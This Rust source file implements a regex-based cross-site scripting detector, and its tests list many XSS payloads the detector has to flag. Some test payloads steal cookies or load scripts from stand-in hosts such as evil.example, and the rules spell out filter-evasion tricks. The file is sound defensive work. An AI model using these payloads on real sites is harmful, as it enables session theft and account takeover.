//! Cross-site scripting: markup that a browser would parse into script — a tag with an event
//! handler or a script-capable URL, a script-capable or raw-text element (also with its tag
//! name spelled letter by letter), a quote break into an event handler or script-URL
//! attribute, a `javascript:` or markup-carrying `data:` URL (control characters inside the
//! scheme removed, as browsers do), or a call of a script sink (`alert(`, `eval(`). A bare
//! member name (`document.cookie`) counts only with some JS punctuation around it: alone it
//! is a file name or a documentation search.

use super::prefilter::{lits, LitSet, Lits};
use super::rules::Rule;
use super::{AttackType, Detector, Finding};
use crate::point::Leaf;

const EVENTS: &str = r"on(?:abort|activate|after\w+|animation\w+|before\w+|blur|begin|bounce|cancel|canplay\w*|change|click|close|contextmenu|copy|cut|dblclick|drag\w*|drop|durationchange|end|ended|error|finish|focus\w*|formdata|hashchange|input|invalid|key\w+|load\w*|message|mouse\w+|move\w*|page\w+|paste|pointer\w+|popstate|progress|readystatechange|repeat|reset|resize|scroll\w*|search|seek\w*|select\w*|show|start|submit|toggle|touch\w+|transition\w+|unload|volumechange|waiting|wheel|content\w+|auxclick|play\w*|pause|ratechange|stalled|suspend|timeupdate|emptied|loadstart|fullscreen\w*|message\w*|offline|online|storage|webkit\w+|moz\w+|error\w+|securitypolicyviolation|slotchange|cuechange|gotpointercapture|lostpointercapture|command|visibilitychange|languagechange|controlselect|deactivate|filterchange|help|losecapture|propertychange|rows\w+|stop|data\w+|layoutcomplete|cellchange|timeerror|media\w+|outofsync|resume|reverse|syncrestored|urlflip|zoom)";

pub struct Xss {
    rules: Vec<Rule>,
    /// See [`MEMBER_RULES`].
    member: Vec<Rule>,
    /// Index in `rules` of the [`HANDLER`] rule, run only after [`handler_assignment`].
    handler: usize,
    /// Per rule of `rules` / `member`: the [`SECOND_GATES`] literals (empty: none).
    rules_second: Vec<Lits>,
    member_second: Vec<Lits>,
    /// Names whose presence makes JS normalisation worth its allocation.
    js_gate: Lits,
    /// Bytes one of which every rule's pattern needs (see [`QUICK_BYTES`]).
    quick: Lits,
}

impl Xss {
    pub fn new() -> Self {
        let rules = vec![
            Rule::new(
                &["<"],
                r"<\s*/?\s*(?:script|iframe|frame|frameset|object|embed|applet|base|meta|svg|math|xss|isindex|import|template|portal|set|animate\w*|handler|vmlframe|xml|style|link|form|button|details|marquee|body|video|audio|source|image|img|input|textarea|keygen|select|bgsound|layer|ilayer|a|div|span|p|x|h1|table|td|html)\b[^>]*?(?:\b(?:href|src|data|action|formaction|xlink:href|background|dynsrc|lowsrc|code|codebase|poster)\s*=\s*['`\x22]?\s*(?:javascript|vbscript|livescript|data)\s*:|[\s/'`]on[a-z]{3,}\s*=)",
                "tag with script attribute",
            ),
            // Elements that run or load script by themselves; the raw-text elements whose
            // content the parser does not treat as markup, the usual carriers of mutation XSS
            // (`<noscript><p title="</noscript><img …>`); and tag names spelled letter by
            // letter (`<s c r i p t`) for filters that collapse whitespace afterwards. One
            // regex, one pass over values with `<`.
            Rule::new(
                &["<"],
                &format!(
                    r"<\s*(?:[a-z]+:)?(?:script|iframe|frameset|object|embed|applet|svg|math|isindex|xss|portal|vmlframe|style)[\s/>]|<\s*(?:base|meta|link)\s[^>]*\b(?:href|http-equiv|charset|content)[\s/]*=|<\s*(?:script|noscript|noembed|noframes|xmp|plaintext)\b|<\s*/\s*script\s*>|{}",
                    spaced_tags()
                ),
                "script-capable element",
            ),
            Rule::new(
                &["="],
                &format!(
                    r#"(?:^|["'`;\s/])\s*{EVENTS}\s*=(?:\s*\S|\s*$)|["'`]\s*on[a-z]{{4,}}\s*=|["'`][\s/]*(?:formaction|srcdoc|xlink:href|dynsrc|lowsrc)\s*="#
                ),
                // The last form: a quote break into an attribute that takes a script URL or a
                // whole document.
                HANDLER,
            ),
            Rule::new(
                &["url"],
                r#"url\s*\(\s*['"]?\s*(?:javascript|vbscript|livescript)"#,
                "script URL in style",
            ),
            Rule::new(
                &[
                    "<?import",
                    "+adw-",
                    "<?xml:namespace",
                    "datasrc",
                    "<xml",
                    "<layer",
                    "dataformatas",
                ],
                // `dataformatas="html"`: IE data binding renders the bound field as markup.
                r"<\?import\b|<\?xml:namespace\b|\+adw-\s*[a-z/!]|\bdatasrc\s*=|\bdataformatas\s*=\s*['\x22]?\s*html|<\s*(?:xml|layer|ilayer)\s[^>]*\bsrc\s*=",
                "legacy markup hiding script",
            ),
            Rule::new(
                &["[]"],
                r"!!\[\]|\(!\[\]\+\[\]\)|\+!\+\[\]|\[\+\[\]\]",
                "jsfuck expression",
            ),
            Rule::new(
                &["call", "apply", "reflect"],
                r"\.\s*(?:call|apply|bind)\s*`|\breflect\s*\.\s*(?:apply|construct)\b",
                "tagged template call",
            ),
            // Checked on the JS-normalised value (see `js_normalize`).
            Rule::new(
                &[
                    "window.",
                    "self.",
                    "top.",
                    "parent.",
                    "frames.",
                    "globalthis.",
                    "document.",
                ],
                // `self.open`, `self.write`, `self.fetch` are Python methods: after `self`
                // only names no Python class has.
                r"\b(?:window|top|parent|frames|globalthis|document)\.(?:alert|prompt|confirm|eval|cookie|location|write|domain|open|\$|\\x24|settimeout|setinterval|fetch|importscripts)|\bself\.(?:alert|prompt|confirm|eval|cookie|location|domain|\$|\\x24|settimeout|setinterval|importscripts)\b",
                "global object sink",
            ),
            Rule::new(
                &["script", "data:", "mocha"],
                r"(?:^|[\s'`=(\x22]|&)\s*(?:javascript|vbscript|livescript|mocha)\s*:|data:\s*(?:text/html|image/svg\+xml|application/x?html)[;,]|\bdata\s*:\s*[a-z0-9/+.=;-]*\s*,\s*<\s*[a-z!/?]",
                "script URL",
            ),
            // Also gated on the names (see `SECOND_GATES`): `(` alone is in most values.
            Rule::new(
                &["(", "`"],
                // `import(` loads a module from a string (`from x import (` is Python).
                r"(?:^|[^a-z0-9_.$])(?:alert|prompt|confirm|eval|settimeout|setinterval|execscript|fromcharcode|atob|btoa|expression)\s*(?:\(|`)|(?:^|[^a-z0-9_.$])import\s*(?:\(\s*['`\x22]|`)|\bnew\s+function(?:\(|`)",
                "script sink call",
            ),
            Rule::new(
                &["document", "window", "location", "innerhtml", "cookie"],
                r"\b(?:document\s*\.\s*(?:cookie|write|writeln|domain|location|body|createelement|getelementby\w+|forms|images|documentelement|queryselector\w*)|window\s*\.\s*(?:location|open|name|eval)|\.\s*(?:innerhtml|outerhtml)\s*=)",
                "DOM sink access",
            ),
            // A script element whose `<` and `>` a filter stripped leaves its name glued to
            // the code (`scriptalert(1)/script`); no word ends in `script` before a sink.
            Rule::new(
                &["script"],
                r"script(?:(?:alert|prompt|confirm|eval|settimeout|setinterval|fromcharcode|atob|btoa)\s*(?:\(|`)|(?:document|window)\s*\.\s*(?:cookie|location|write|domain|open|eval))",
                "script element with its brackets stripped",
            ),
            // `top["al"+"ert"]`: a global looked up by a computed string.
            Rule::new(
                &["["],
                r"\b(?:top|self|parent|frames|window|globalthis)\s*\[\s*['`\x22]",
                GLOBAL_LOOKUP,
            ),
            // `x'};location.href='//evil';//`: a JS string closed, then a navigation.
            Rule::new(
                &["location"],
                r#"['"`][\s)\]}]*[;+-]\s*(?:(?:window|self|top|document)\s*\.\s*)?location(?:\s*\.\s*(?:href|hash|search|pathname|replace|assign))?\s*(?:=|\()\s*['"`]?\s*(?:/{2}|[a-z][a-z0-9+.-]*:|(?:document|window|self|top|name|atob|unescape)\b)"#,
                "navigation after a string break",
            ),
            // AngularJS evaluates these attributes as expressions (`ng-focus="$event.view…"`).
            Rule::new(
                &["ng-"],
                r"<[a-z][^>]*\sng-(?:click|dblclick|focus|blur|mouse[a-z]+|key[a-z]+|change|submit|copy|cut|paste|init)\s*=",
                "angular directive in markup",
            ),
            Rule::new(
                &["binding", "behavio", "@import"],
                r"(?:-moz-)?binding\s*:\s*url|behaviou?r\s*:\s*url|@import\s",
                "style script hook",
            ),
            Rule::new(
                &["<!", "<?"],
                r"<!\[cdata\[\s*<|<\?xml-stylesheet",
                "markup hiding script",
            ),
        ];
        // Rules that match a bare member name (`document.cookie`): on their own such names are
        // a file name or a search for documentation; as script they come with an operator or
        // a call, so these only count when the value has some JS punctuation.
        let (member, rules): (Vec<Rule>, Vec<Rule>) = rules
            .into_iter()
            .partition(|r| MEMBER_RULES.contains(&r.reason));
        let second = |list: &[Rule]| -> Vec<Lits> {
            list.iter()
                .map(|r| {
                    SECOND_GATES
                        .iter()
                        .find(|(reason, _)| *reason == r.reason)
                        .map_or_else(Lits::default, |(_, names)| lits(names))
                })
                .collect()
        };
        Xss {
            handler: rules
                .iter()
                .position(|r| r.reason == HANDLER)
                .unwrap_or(usize::MAX),
            quick: lits(QUICK_BYTES),
            rules_second: second(&rules),
            member_second: second(&member),
            rules,
            member,
            js_gate: lits(&[
                "document",
                "window",
                "self",
                "top",
                "parent",
                "frames",
                "globalthis",
                "alert",
                "prompt",
                "confirm",
                "eval",
                "cookie",
                "call",
                "apply",
            ]),
        }
    }
}

/// `<[\s\x00]*s[\s\x00]+c[\s\x00]+r…\b|…` for the tag names an injection needs: no text
/// spells a tag name letter by letter after `<`.
fn spaced_tags() -> String {
    let names = [
        "script", "iframe", "form", "object", "embed", "applet", "svg", "style", "meta", "link",
        "base", "img", "frameset",
    ];
    let alts: Vec<String> = names
        .iter()
        .map(|n| {
            let letters: Vec<String> = n.chars().map(String::from).collect();
            letters.join(r"[\s\x00]+")
        })
        .collect();
    format!(r"<[\s\x00]*(?:{})\b", alts.join("|"))
}

/// JavaScript written to dodge property-name patterns, rewritten to plain member access:
/// comments and blanks around `.` and `[` removed, `["name"]` turned into `.name`, and
/// parentheses around a bare name dropped — `(document /*x*/)["cookie"]` → `document.cookie`.
/// `None` when the value has none of those tricks (the common case, no allocation).
fn js_normalize(lower: &str) -> Option<String> {
    if !(lower.contains("/*")
        || lower.contains("[\"")
        || lower.contains("['")
        || lower.contains("[`")
        || lower.contains(" .")
        || lower.contains(". ")
        || lower.contains("[ "))
    {
        return None;
    }
    let b = lower.as_bytes();
    let mut out = String::with_capacity(lower.len());
    let mut i = 0;
    while i < b.len() {
        match b[i] {
            b'/' if b.get(i + 1) == Some(&b'*') => {
                i = lower[i + 2..].find("*/").map_or(b.len(), |p| i + 2 + p + 2);
            }
            b' ' | b'\t' | b'\n' | b'\r' => i += 1,
            b'[' => {
                // `["name"]` → `.name` when the brackets hold one quoted identifier.
                let inner_start = i + 1;
                // Property names are short: looking further than 64 bytes for the `]` would make
                // a run of `[` quadratic.
                let window = &lower.as_bytes()[inner_start..(inner_start + 64).min(b.len())];
                let close = window
                    .iter()
                    .position(|&c| c == b']')
                    .map(|p| inner_start + p);
                let inner = close.map(|c| {
                    lower[inner_start..c]
                        .split("/*")
                        .next()
                        .unwrap_or_default()
                        .trim()
                        .trim_matches(['"', '\'', '`'])
                });
                match (close, inner) {
                    (Some(c), Some(name))
                        if !name.is_empty()
                            && name.bytes().all(|x| {
                                x.is_ascii_alphanumeric() || matches!(x, b'_' | b'$' | b'\\')
                            }) =>
                    {
                        out.push('.');
                        out.push_str(name);
                        i = c + 1;
                    }
                    _ => {
                        out.push('[');
                        i += 1;
                    }
                }
            }
            _ => {
                let len = lower[i..].chars().next().map_or(1, char::len_utf8);
                out.push_str(&lower[i..i + len]);
                i += len;
            }
        }
    }
    // `(document)` → `document`.
    for name in ["document", "window", "self", "top", "parent", "globalthis"] {
        out = out.replace(&format!("({name})"), name);
    }
    (out != lower).then_some(out)
}

/// Browsers drop tabs and newlines inside a URL scheme (`jav&#13ascript:`).
fn strip_controls(s: &str) -> Option<String> {
    s.bytes()
        .any(|b| b < 0x20)
        .then(|| s.chars().filter(|c| !c.is_control()).collect())
}

impl Detector for Xss {
    fn attack(&self) -> AttackType {
        AttackType::Xss
    }

    fn check(&self, leaf: &Leaf, present: &LitSet) -> Option<Finding> {
        // No pass (JS-normalised, controls stripped) adds any of these bytes.
        if !present.any(&self.quick) {
            return None;
        }
        let lower = leaf.lower.as_str();
        let js_syntax = || lower.bytes().any(|c| JS_PUNCT.contains(&c));
        if let Some((a, b, reason)) = self.first(lower, present, &js_syntax) {
            return Some(Finding { at: a..b, reason });
        }
        let js = present
            .any(&self.js_gate)
            .then(|| js_normalize(lower))
            .flatten();
        if let Some(norm) = js {
            if let Some((_, _, reason)) = self.first(&norm, &LitSet::all(), &|| {
                lower.contains("/*") || js_syntax()
            }) {
                return Some(Finding {
                    at: 0..lower.len(),
                    reason,
                });
            }
        }
        // Control characters only hide a scheme (`jav\tascript:`) or split a tag name; a value
        // without `:` or `<` has neither, so the rare second pass is skipped for it.
        if !lower.contains([':', '<']) {
            return None;
        }
        let stripped = strip_controls(lower)?;
        self.first(&stripped, &LitSet::all(), &js_syntax)
            .map(|(_, _, reason)| Finding {
                at: 0..lower.len(),
                reason,
            })
    }
}

const MEMBER_RULES: &[&str] = &["DOM sink access", "global object sink", GLOBAL_LOOKUP];

const GLOBAL_LOOKUP: &str = "global object sink (computed name)";

/// Literals a rule needs besides its own prefilter, one of each list: the rule's own gate is
/// a byte most values have (`(`, `[`), checked first because it is one bit; the names it is
/// called with are many bits, checked only then.
const SECOND_GATES: &[(&str, &[&str])] = &[
    (
        "script sink call",
        &[
            "alert",
            "prompt",
            "confirm",
            "eval",
            "settimeout",
            "setinterval",
            "execscript",
            "fromcharcode",
            "atob",
            "btoa",
            "expression",
            "import",
            "function",
        ],
    ),
    (
        GLOBAL_LOOKUP,
        &["top", "self", "parent", "frames", "window", "globalthis"],
    ),
];

const HANDLER: &str = "event handler or script-url attribute";

/// Every rule's pattern needs one of these bytes: a tag (`<`), an attribute or assignment
/// (`=`), a call (`(`, `` ` ``), an index (`[`), a member (`.`), a scheme or style property
/// (`:`), `@import`, `+ADw-`. A value with none of them (most data) skips every rule.
const QUICK_BYTES: &[&str] = &["<", "=", "(", "`", "[", ".", ":", "@", "+"];

/// The first rule of `rules` whose gates pass and whose pattern matches: its prefilter, then
/// its second gate (`second[k]`), then `extra(k)`.
fn gated_first(
    rules: &[Rule],
    second: &[Lits],
    text: &str,
    present: &LitSet,
    extra: impl Fn(usize) -> bool,
) -> Option<(usize, usize, &'static str)> {
    rules.iter().enumerate().find_map(|(k, r)| {
        if !r.prefilter.is_empty() && !present.any(&r.prefilter)
            || second
                .get(k)
                .is_some_and(|g| !g.is_empty() && !present.any(g))
            || !extra(k)
        {
            return None;
        }
        r.regex
            .find(text.as_bytes())
            .map(|m| (m.start(), m.end(), r.reason))
    })
}

/// Some `=` follows (after blanks) a name that starts with `on` or is an attribute taking a
/// script URL or a document: what the [`HANDLER`] rule needs. `=` is in most values (`1=1`,
/// `a=b`), names like that are not, and one look back per `=` is cheaper than the regex.
fn handler_assignment(b: &[u8]) -> bool {
    memchr::memchr_iter(b'=', b).any(|eq| {
        let mut end = eq;
        while end > 0 && (b[end - 1].is_ascii_whitespace() || b[end - 1] == 0x0b) {
            end -= 1;
        }
        let mut start = end;
        while start > 0
            && end - start < 40
            && (b[start - 1].is_ascii_alphanumeric() || matches!(b[start - 1], b'_' | b':'))
        {
            start -= 1;
        }
        let name = &b[start..end];
        end - start >= 40
            || name.starts_with(b"on")
            || matches!(
                name,
                b"formaction" | b"srcdoc" | b"xlink:href" | b"dynsrc" | b"lowsrc"
            )
    })
}
const JS_PUNCT: &[u8] = b"()=+;'\"<>`[]{},";

impl Xss {
    fn first(
        &self,
        text: &str,
        present: &LitSet,
        js_syntax: &dyn Fn() -> bool,
    ) -> Option<(usize, usize, &'static str)> {
        let b = text.as_bytes();
        gated_first(&self.rules, &self.rules_second, text, present, |k| {
            k != self.handler || handler_assignment(b)
        })
        .or_else(|| {
            gated_first(&self.member, &self.member_second, text, present, |_| true)
                .filter(|_| js_syntax())
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hit(v: &str) -> bool {
        crate::detect::check_one(&Xss::new(), v).is_some()
    }

    #[test]
    fn finds_xss() {
        for v in [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "\" onmouseover=\"alert(1)",
            "javascript:alert(document.cookie)",
            "jav\rascript:alert(7)",
            "<svg/onload=alert(1)>",
            "';alert(String.fromCharCode(88))//",
            "<object data=\"javascript:alert(1)\">",
            "document.body.appendChild(document.createElement(\"h1\"))",
            "<a href=\"javascript:void(0)\">x</a>",
            "document /*foo*/ .     cookie",
            "self[/*foo*/\"alert\"](self[\"document\"/*bar*/][\"cookie\"])",
            "(document)[\"cookie\"]",
            "[].sort.call`${alert}1337`",
            "<meta http-equiv=\"refresh\" content=\"0; url=x\">",
            "<v:vmlframe src=\"foo.com/sup.fml\"/>",
            "x=x:url(javascript:alert(1))",
            "(![]+[])[+!+[]]",
            "\"  onload= ",
            "  onwebkitanimationend= ",
            "<link rel=stylesheet href / = //evil.example/x.css",
            "\"formaction=//evil.example",
            "' srcdoc=&lt;svg",
            "<s c r i p t>",
            "x<i\tf r a m e src=//evil>",
            "data:,<svg onload=x>",
            "data: text/plain , <b>",
            "btoa(document.body.innerHTML)",
            "new Function`alert\x281\x29`",
            "\"onpropertychange=x",
            "x' onerrorupdate=y",
            "scriptalert(1)/script",
            "scriptdocument.location='//evil/'+1",
            "<noscript><p title=\"</noscript><img src=x>\">",
            "location=document.cookie",
            "top[\"al\"+\"ert\"](1)",
            "window[`ev`+`al`](name)",
            "new Image().src='//e/?c='+document.cookie",
            "x'};location.href='//evil.example';//",
            "\";top.location='//evil.example/'+1;//",
            "'-location.replace('//evil.example')-'",
            "<input autofocus ng-focus=\"$event.view.alert(1)\">",
            "<div datasrc=#x datafld=b dataformatas=html>",
            "<p dataformatas='html' datafld=a>",
            "import('//evil.example/x.js')",
            "self.alert(1)",
        ] {
            assert!(hit(v), "{v}");
        }
    }

    /// The look back before each `=` passes whenever the handler pattern can match.
    #[test]
    fn handler_precheck_is_a_superset() {
        let xss = Xss::new();
        let re = &xss.rules[xss.handler].regex;
        for v in [
            "\"  onload= ",
            "  onwebkitanimationend= ",
            "x' onerrorupdate=y",
            "\"onpropertychange=x",
            "' srcdoc=&lt;svg",
            "\"formaction=//evil.example",
            "\"/xlink:href=x",
            "a onclick\x0b=x",
            "a onclick\n\t =x",
            &format!("\" on{}=1", "m".repeat(60)),
            "1=1",
            "a=b&c=d",
        ] {
            if re.is_match(v.as_bytes()) {
                assert!(handler_assignment(v.as_bytes()), "{v:?}");
            }
        }
        assert!(!handler_assignment(b"1=1 and x=y"));
    }

    #[test]
    fn ignores_markup_free_text_and_safe_html() {
        for v in [
            "Tom <tom@example.com>",
            "a < b and c > d",
            "<b>bold</b> and <i>italic</i>",
            "The alert was raised (twice)",
            "https://example.com/page?on=1",
            "turn on = off",
            "see document.pdf",
            "click on the button",
            "see section 3. then go on",
            "arr[\"key\"] = value",
            "the top. parent company",
            "![](image.png)",
            "meta description here",
            "/javascript-manual/document.cookie",
            "how to read document.cookie in js",
            "window.location vs document.location",
            "the form is on the s c r e e n",
            "< f o o >",
            "data: 1, 2, 3 < 4",
            "description(s)",
            "a manuscript alerting readers",
            "moz",
            "help = 3",
            "a new function (in math)",
            "from typing import (",
            "self.open(path)",
            "self.write(data); self.fetch(url)",
            "f(\"x\", location=\"paris\")",
            "location = 'paris'",
            "\"city\"; location: paris",
            "\"Meet at 8am\"; location = lobby",
            "<div ng-app class=x>",
        ] {
            assert!(!hit(v), "{v}");
        }
    }
}
